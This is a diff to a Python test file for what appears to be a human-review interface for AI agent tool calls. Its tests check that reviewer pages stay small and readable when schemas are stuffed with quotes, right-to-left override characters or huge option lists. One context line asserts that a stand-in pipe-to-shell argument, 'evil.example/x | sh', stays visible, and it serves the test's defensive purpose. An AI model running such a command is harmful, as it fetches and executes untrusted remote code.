@@ -91,3 +91,50 @@ async def test_many_arguments_do_not_hide_the_dangerous_one(
         steps = [unescape(one) for one in re.findall(r'<a data-part href="([^"]*)"', flags)]
         there = [(await omar.get(one.partition("#")[0])).text for one in steps]
         assert on_first_screen or any("evil.example/x | sh" in unescape(one) for one in there)
+
+
+Q = "'"
+LISTED = {
+    "type": "array",
+    "minItems": 40,
+    "items": {"type": "object", "properties": {"b": {"type": "string"}}},
+}
+SCHEMAS: dict[str, Any] = {
+    "quotes in the help": {"a": {"type": "string", "description": Q * 60_000}},
+    "double quotes": {"a": {"type": "object", "description": '"' * 30_000}},
+    "hidden characters": {"a": {"type": "string", "description": "\u202e" * 20_000}},
+    "an option": {"a": {"enum": [Q * 60_000, "b"]}},
+    "many options": {"a": {"enum": [f"{at:x}" for at in range(8_000)]}},
+    "a title at every item": {"a": {**LISTED, "title": Q * 50_000}},
+    "many fields": {f"a{at}": {"type": "number", "title": "Worth", "minimum": 1} for at in range(148)},
+}
+
+
+@pytest.mark.parametrize("name", list(SCHEMAS))
+async def test_what_the_agent_asks_in_return_keeps_the_page_small_and_can_be_read_whole(
+    desk: Desk, cast: Cast, signed_in: SignedIn, name: str
+) -> None:
+    schema = {"type": "object", "properties": SCHEMAS[name]}
+    filler = "\u0440a"
+    case = await ask(
+        desk,
+        cast.ada,
+        {"tool": "post_note", "arguments": arguments(filler)},
+        material(filler),
+        response_schema=schema,
+        tool_schema=schema,
+    )
+    omar = await signed_in("Omar")
+
+    page = await omar.get(f"/cases/{case}")
+
+    assert len(page.content) < MOST_HTML
+    assert len((await omar.get(f"/cases/{case}/modify")).content) < 2 * MOST_HTML
+    step = re.search(r'href="([^"]*at=/response_schema)"', page.text)
+    assert (step is None) == (name == "many fields")
+    if step is not None:
+        there = await omar.get(unescape(step[1]))
+        assert there.status_code == 200
+        assert len(there.content) < 6 * MOST_HTML
+        response = json.dumps({"a": "b"})
+        assert (await omar.decide(case, choice="approve", r=response)).status_code in (303, 422)
